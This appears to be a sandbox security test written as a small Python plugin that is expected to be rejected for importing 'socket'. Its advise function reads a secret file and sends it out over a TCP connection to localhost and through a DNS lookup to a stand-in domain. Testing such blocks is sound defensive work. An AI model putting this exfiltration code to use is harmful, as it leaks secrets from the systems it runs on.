"""Network exfiltration: open a TCP connection to localhost and send the secret file, and
resolve a DNS name that carries the secret.

Layer: static policy (import of 'socket' refused); behind it, the worker's seccomp filter.
Expect: rejected reason="policy: line" reason="import of 'socket' is not allowed"
"""

import socket


def advise(ctx):
    if ctx["cycle"] >= 1:
        data = open("@@SECRET_FILE@@").read()
        conn = socket.create_connection(("127.0.0.1", 9), timeout=0.1)
        conn.sendall(data.encode())
        socket.gethostbyname(data.strip() + ".example.invalid")
        return data
    return ""
